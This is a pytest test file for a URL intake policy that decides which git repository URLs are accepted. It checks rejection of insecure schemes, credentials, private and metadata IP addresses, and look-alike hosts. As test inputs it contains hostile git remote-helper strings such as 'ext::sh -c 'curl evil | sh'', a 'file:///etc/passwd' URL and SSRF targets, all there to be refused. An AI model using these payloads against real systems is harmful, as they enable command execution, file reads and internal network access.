"""Which repository URLs may reach git: decided by ``check_url`` alone, no DNS, no sockets.

Every host name below goes through a fake resolver; a test that must not resolve at all uses
``no_dns``, which fails the test if the policy tries.
"""

from __future__ import annotations

import pytest

from runner.errors import RepoRejected
from runner.intake.url_policy import UrlPolicy, check_url

PUBLIC = "140.82.112.3"


def no_dns(host: str) -> list[str]:
    raise AssertionError(f"the policy resolved {host!r} although it had no reason to")


def public(host: str) -> list[str]:
    return [PUBLIC]


def policy(resolver=public, trusted: tuple[str, ...] = ()) -> UrlPolicy:
    return UrlPolicy(
        allowed_hosts=["github.com", "gitlab.com"], trusted_hosts=trusted, resolver=resolver
    )


def refused(url: str, rules: UrlPolicy) -> str:
    with pytest.raises(RepoRejected) as caught:  # noqa: PT011 - the callers assert the message
        check_url(url, rules)
    message = str(caught.value)
    assert url in message, "the reason names the URL the user gave"
    return message


# --- what passes ---------------------------------------------------------------------------


def test_https_on_an_allowed_host_passes_unchanged():
    looked_up: list[str] = []

    def resolver(host: str) -> list[str]:
        looked_up.append(host)
        return [PUBLIC, "2606:50c0:8000::153"]

    url = "https://github.com/candidate/kv-store.git"
    assert check_url(url, policy(resolver)) == url
    assert looked_up == ["github.com"]


def test_host_names_are_compared_case_insensitively():
    url = "https://GitHub.COM/candidate/kv-store"
    assert check_url(url, policy()) == url


# --- schemes ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://github.com/candidate/kv-store",
        "ssh://github.com/candidate/kv-store",
        "git://github.com/candidate/kv-store",
        "ftp://github.com/candidate/kv-store",
        "HTTP://github.com/candidate/kv-store",
    ],
)
def test_only_https_is_accepted_on_allowed_hosts(url):
    assert "only https" in refused(url, policy(no_dns))


def test_an_ssh_url_with_a_user_is_refused_for_its_scheme_not_for_credentials():
    message = refused("ssh://git@github.com/candidate/kv-store.git", policy(no_dns))
    assert "scheme 'ssh' is not allowed: only https repository URLs are accepted" in message
    assert "credentials" not in message


def test_scp_like_ssh_address_is_refused():
    assert "only https" in refused("git@github.com:candidate/kv-store.git", policy(no_dns))


@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% /tmp/pwned",
        "ext::sh -c 'curl evil | sh'",
        "fd::17",
        "fd::17,18/github.com",
        "EXT::sh",
        "https::github.com/candidate/kv-store",
    ],
)
def test_git_remote_helpers_are_refused(url):
    assert "remote helpers" in refused(url, policy(no_dns))


@pytest.mark.parametrize(
    "url", ["file:///etc", "file:///etc/passwd", "file://localhost/srv/repo", "FILE:///etc"]
)
def test_file_urls_are_refused(url):
    assert "only https" in refused(url, policy(no_dns))


@pytest.mark.parametrize(
    "url", ["/srv/candidates/kv-store", "../kv-store", "github.com:candidate/kv-store"]
)
def test_paths_and_scheme_less_host_paths_are_refused(url):
    refused(url, policy(no_dns))


@pytest.mark.parametrize(
    "url",
    [
        "https://user:token@github.com/candidate/kv-store",
        "https://ghp_secret@github.com/candidate/kv-store",
        "https://:password@github.com/candidate/kv-store",
    ],
)
def test_credentials_in_the_url_are_refused(url):
    assert "credentials" in refused(url, policy(no_dns))


@pytest.mark.parametrize(
    "url", ["https://github.com:abc/candidate/kv-store", "https://[::1/candidate", "https://[zz]/x"]
)
def test_malformed_urls_are_refused_not_crashing(url):
    assert "not a valid URL" in refused(url, policy(no_dns))


def test_a_url_without_a_host_is_refused():
    assert "no host" in refused("https:///candidate/kv-store", policy(no_dns))


# --- hosts -------------------------------------------------------------------------------------


def test_a_host_outside_the_allowed_list_is_refused_and_the_allowed_ones_are_named():
    message = refused("https://evil.example/candidate/kv-store", policy(no_dns))
    assert "'evil.example' is not allowed" in message
    assert "github.com, gitlab.com" in message


def test_a_look_alike_host_is_not_allowed():
    refused("https://github.com.evil.example/candidate/kv-store", policy(no_dns))
    refused("https://evilgithub.com/candidate/kv-store", policy(no_dns))


def test_no_allowed_hosts_means_none():
    rules = UrlPolicy(allowed_hosts=[], resolver=no_dns)
    assert "(none)" in refused("https://github.com/candidate/kv-store", rules)


IP_LITERALS = [
    "127.0.0.1",
    "10.0.0.1",
    "169.254.169.254",
    "[::1]",
    "192.168.1.1",
    "172.16.0.1",
    "0.0.0.0",
    "100.64.0.1",
    "[fe80::1]",
    "[fd00::1]",
    "[::ffff:127.0.0.1]",
    "224.0.0.1",
]


@pytest.mark.parametrize("literal", IP_LITERALS)
def test_ip_literals_are_refused(literal):
    refused(f"https://{literal}/candidate/kv-store", policy(no_dns))


@pytest.mark.parametrize("literal", IP_LITERALS)
def test_ip_literals_are_refused_even_when_listed_as_allowed(literal):
    rules = UrlPolicy(allowed_hosts=[literal.strip("[]")], resolver=no_dns)
    message = refused(f"https://{literal}/candidate/kv-store", rules)
    assert "non-public address" in message


def test_a_public_ip_literal_listed_as_allowed_passes_without_dns():
    rules = UrlPolicy(allowed_hosts=[PUBLIC], resolver=no_dns)
    assert check_url(f"https://{PUBLIC}/candidate/kv-store", rules)


@pytest.mark.parametrize(
    "addresses",
    [
        ["127.0.0.1"],
        ["10.1.2.3"],
        ["169.254.169.254"],
        ["192.168.0.10"],
        ["::1"],
        ["fd12:3456::1"],
        ["fe80::1%eth0"],
        [PUBLIC, "172.16.5.4"],
    ],
)
def test_an_allowed_host_resolving_to_a_private_address_is_refused(addresses):
    message = refused("https://github.com/candidate/kv-store", policy(lambda host: addresses))
    assert "non-public address" in message
    assert "github.com" in message


def test_a_host_that_does_not_resolve_is_refused():
    def unresolvable(host: str) -> list[str]:
        raise RepoRejected(f"{host}: the host name does not resolve")

    with pytest.raises(RepoRejected, match="does not resolve"):
        check_url("https://github.com/candidate/kv-store", policy(unresolvable))


# --- hosts trusted by staff --------------------------------------------------------------------


TRUSTED = policy(no_dns, trusted=("127.0.0.1:9418", "git.internal"))


@pytest.mark.parametrize(
    "url",
    [
        "git://127.0.0.1:9418/candidate",
        "http://127.0.0.1:9418/candidate.git",
        "https://127.0.0.1:9418/candidate.git",
        "git://git.internal/candidate",
        "http://git.internal:8080/candidate",
    ],
)
def test_trusted_hosts_allow_git_and_http_on_private_addresses_without_dns(url):
    assert check_url(url, TRUSTED) == url


@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% /tmp/pwned",
        "ext::git://127.0.0.1:9418/candidate",
        "fd::17",
        "file:///etc",
        "file://127.0.0.1:9418/etc",
    ],
)
def test_trusted_hosts_still_refuse_helpers_and_files(url):
    refused(url, TRUSTED)


def test_trusted_hosts_refuse_other_schemes():
    assert "'ssh'" in refused("ssh://127.0.0.1:9418/candidate", TRUSTED)


def test_trusted_hosts_refuse_credentials():
    assert "credentials" in refused("http://staff:pw@127.0.0.1:9418/candidate", TRUSTED)


def test_a_trusted_host_port_does_not_trust_other_ports_of_that_host():
    message = refused("git://127.0.0.1:9419/candidate", TRUSTED)
    assert "only https" in message
    refused("https://127.0.0.1:9419/candidate", TRUSTED)
